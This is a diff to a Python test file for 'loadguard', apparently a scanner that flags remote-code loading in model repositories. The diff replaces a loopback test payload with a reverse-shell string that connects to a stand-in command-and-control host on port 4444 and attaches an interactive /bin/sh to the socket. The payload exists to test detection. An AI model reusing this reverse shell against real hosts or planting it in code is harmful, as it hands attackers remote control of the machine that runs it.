@@ -13,8 +13,14 @@ from loadguard.sources.local import snapshot_from_folder
 MakeRepo = Callable[[dict[str, object]], Path]
 
 CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})
-# Harmless if run: the "payload" only opens a loopback socket.
-PAYLOAD = "import socket\n\ndef go():\n    socket.create_connection(('127.0.0.1', 9))\n\ngo()\n"
+# Harmless if run: the host does not resolve (.invalid).
+PAYLOAD = (
+    "import socket, subprocess\n\n"
+    "def go():\n"
+    "    s = socket.create_connection(('c2.example.invalid', 4444))\n"
+    "    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n\n"
+    "go()\n"
+)
 
 
 def _finding_in(result, path):  # type: ignore[no-untyped-def]
